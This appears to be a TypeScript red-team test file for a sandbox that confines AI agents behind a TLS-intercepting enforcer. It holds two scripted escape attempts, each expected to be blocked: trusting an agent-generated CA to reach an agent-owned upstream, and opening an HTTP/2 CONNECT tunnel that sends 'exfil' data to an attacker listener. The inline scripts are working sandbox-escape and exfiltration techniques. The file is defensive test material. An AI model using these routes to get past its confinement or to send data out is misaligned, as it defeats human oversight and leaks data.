// Red-team attempts on intercepted TLS, run by a confined agent (lilith run, so it
// trusts the node CA) against real HTTPS / HTTP/2 servers on loopback:
// - trust-agent-ca: the agent makes its own CA, has an upstream present a
//   certificate from it for an intercepted name, and trusts that CA itself;
//   the enforcer verifies upstreams against the capsule's pins or the system
//   store only, so the request never reaches that upstream.
// - h2-connect-tunnel: CONNECT on an intercepted HTTP/2 session, aimed at the
//   attacker's listener: reset, nothing reaches the listener or the upstream.
// The HTTP/2 upstream is one the capsule declares and pins (declareTlsUpstream,
// applied by env.ts before signing), standing for a real service the agent may use.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { LilithConfig } from '../capsule/config.js';
import type { Attempt } from './attempts.js';
import type { RedteamEnv } from './env.js';

/** An allowlisted name (bundled entities) on port 443, as tls-allowlisted and tls-intercept-allowlisted want. */
const NAME = 'api.github.com';
/** The declared, pinned HTTP/2 upstream, and the agent's own (undeclared) one. */
const PINNED = { host: '127.0.0.4', port: 443 };
const AGENT_OWNED = { host: '127.0.0.5', port: 443 };

interface Pem {
  certPem: string;
  keyPem: string;
}

function openssl(dir: string, args: string[]): void {
  execFileSync('openssl', args, { cwd: dir, stdio: 'ignore' });
}

const EC = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1'];

let pinned: Pem | null = null;
function pinnedCert(): Pem {
  if (!pinned) {
    const dir = mkdtempSync(join(tmpdir(), 'lilith-rt-tls-'));
    openssl(dir, [
      'req',
      '-x509',
      ...EC,
      '-subj',
      `/CN=${NAME}`,
      '-addext',
      `subjectAltName=DNS:${NAME}`,
      '-keyout',
      'k.pem',
      '-out',
      'c.pem',
    ]);
    pinned = { certPem: readFileSync(join(dir, 'c.pem'), 'utf8'), keyPem: readFileSync(join(dir, 'k.pem'), 'utf8') };
    rmSync(dir, { recursive: true, force: true });
  }
  return pinned;
}

/** The agent's CA and a leaf for NAME it signs (leaf then CA in certPem). */
function agentCaAndLeaf(): { ca: string; leaf: Pem } {
  const dir = mkdtempSync(join(tmpdir(), 'lilith-rt-agentca-'));
  try {
    openssl(dir, [
      'req',
      '-x509',
      ...EC,
      '-subj',
      '/CN=Lilith interception CA/O=Lilith',
      '-addext',
      'basicConstraints=critical,CA:TRUE',
      '-keyout',
      'ca.key',
      '-out',
      'ca.pem',
    ]);
    openssl(dir, ['req', '-new', ...EC, '-subj', `/CN=${NAME}`, '-keyout', 'leaf.key', '-out', 'leaf.csr']);
    writeFileSync(join(dir, 'ext'), `subjectAltName=DNS:${NAME}\nbasicConstraints=CA:FALSE\n`);
    openssl(dir, [
      'x509',
      '-req',
      '-in',
      'leaf.csr',
      '-CA',
      'ca.pem',
      '-CAkey',
      'ca.key',
      '-CAcreateserial',
      '-days',
      '1',
      '-extfile',
      'ext',
      '-out',
      'leaf.pem',
    ]);
    const ca = readFileSync(join(dir, 'ca.pem'), 'utf8');
    return { ca, leaf: { certPem: readFileSync(join(dir, 'leaf.pem'), 'utf8') + ca, keyPem: readFileSync(join(dir, 'leaf.key'), 'utf8') } };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Declares the pinned HTTP/2 upstream in the red-team capsule (before it is signed). */
export function declareTlsUpstream(config: LilithConfig): void {
  try {
    config.upstreams['redteam-h2'] = { address: `${PINNED.host}:${PINNED.port}`, kind: 'tls', ca: pinnedCert().certPem };
  } catch (err) {
    // No openssl here: the env still starts; h2-connect-tunnel then fails on its own fixture and says so.
    process.stderr.write(`[redteam] no pinned TLS upstream for h2-connect-tunnel: ${(err as Error).message}\n`);
  }
}

async function listening<S extends https.Server | http2.Http2SecureServer>(server: S, at: { host: string; port: number }): Promise<S> {
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(at.port, at.host, () => resolve());
  });
  return server;
}

const closeAll = (server: https.Server | http2.Http2SecureServer, sockets: Set<{ destroy(): unknown }>) =>
  new Promise<void>((r) => {
    for (const s of sockets) s.destroy();
    server.close(() => r());
  });

export const TLS_ATTEMPTS: Attempt[] = [
  {
    id: 'trust-agent-ca',
    what: 'make the enforcer accept an upstream certificate from a CA the agent generated (the agent trusts it, every CA variable points at it)',
    layer: 'dataplane',
    expect: 'blocked',
    note: 'upstreams are verified against the capsule pin or the system store, neither of which an agent can write',
    async run(env: RedteamEnv) {
      const { ca, leaf } = agentCaAndLeaf();
      let requests = 0;
      let connections = 0;
      const sockets = new Set<{ destroy(): unknown }>();
      const server = await listening(
        https.createServer({ key: leaf.keyPem, cert: leaf.certPem }, (_req, res) => {
          requests++;
          res.end('reached the agent-controlled upstream');
        }),
        AGENT_OWNED,
      );
      server.on('connection', (s) => {
        connections++;
        sockets.add(s);
      });
      try {
        // The agent trusts the node CA it was given plus its own, and sends the SNI of an intercepted name.
        const script = `const https=require('https'),fs=require('fs');
const ca=[fs.readFileSync(process.env.NODE_EXTRA_CA_CERTS,'utf8'),${JSON.stringify(ca)}];
const out=o=>{console.log(JSON.stringify(o));process.exit(0)};
https.get({host:'${AGENT_OWNED.host}',port:${AGENT_OWNED.port},servername:'${NAME}',headers:{host:'${NAME}'},ca},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>out({status:r.statusCode,body:b}))}).on('error',e=>out({err:String(e.code||e.message)}));
setTimeout(()=>out({err:'timeout'}),10000);`;
        const r = await env.runConfined([process.execPath, '-e', script], undefined, 'coder');
        const line = r.stdout.trim().split('\n').at(-1) ?? '';
        const reached = requests > 0 || line.includes('reached');
        return {
          blocked: !reached,
          detail: reached
            ? `the request reached the agent's upstream: ${line.slice(0, 120)}`
            : `${connections ? `the enforcer connected (${connections}) and refused the certificate` : 'denied before the upstream was reached'}; the agent saw ${line || r.stderr.trim().slice(0, 120)}`,
        };
      } finally {
        await closeAll(server, sockets);
      }
    },
  },
  {
    id: 'h2-connect-tunnel',
    what: "open a tunnel with HTTP/2 CONNECT inside an intercepted session to a permitted upstream, aimed at the attacker's listener",
    layer: 'dataplane',
    expect: 'blocked',
    note: 'CONNECT (and extended CONNECT, never enabled) on an HTTP/2 stream is reset and audited, never relayed',
    async run(env: RedteamEnv) {
      const cert = pinnedCert();
      const streams: string[] = [];
      const sockets = new Set<{ destroy(): unknown }>();
      const server = await listening(
        http2.createSecureServer({ key: cert.keyPem, cert: cert.certPem }, (req, res) => {
          streams.push(`${req.method} ${req.url ?? req.authority}`);
          res.end('ok');
        }),
        PINNED,
      );
      server.on('connection', (s: { destroy(): unknown }) => sockets.add(s));
      const before = env.exfil.received('tcp');
      try {
        const target = `${env.exfil.host4}:${env.exfil.tcpPort}`;
        const script = `const h=require('http2'),t=require('tls'),fs=require('fs');
const ca=fs.readFileSync(process.env.NODE_EXTRA_CA_CERTS,'utf8');
const out=o=>{console.log(JSON.stringify(o));process.exit(0)};
const s=h.connect('https://${NAME}',{createConnection:()=>t.connect({host:'${PINNED.host}',port:${PINNED.port},servername:'${NAME}',ca,ALPNProtocols:['h2']})});
s.on('error',e=>out({err:String(e.code||e.message)}));
const r=s.request({':method':'CONNECT',':authority':'${target}'});
r.on('response',hd=>{r.write('exfil over the tunnel');out({status:hd[':status']})});
r.on('close',()=>out({rst:r.rstCode}));r.on('error',()=>undefined);
setTimeout(()=>out({err:'timeout'}),10000);`;
        const r = await env.runConfined([process.execPath, '-e', script]);
        await env.sleep(200);
        const line = r.stdout.trim().split('\n').at(-1) ?? '';
        const tunnelled = env.exfil.received('tcp') !== before || streams.some((s) => s.startsWith('CONNECT')) || /"status"/.test(line);
        return {
          blocked: !tunnelled,
          detail: tunnelled
            ? `a tunnel opened: ${line} (upstream saw ${streams.join(', ') || 'nothing'})`
            : `stream ended ${line || r.stderr.trim().slice(0, 120)}; nothing reached the listener or the upstream`,
        };
      } finally {
        await closeAll(server, sockets);
      }
    },
  },
];
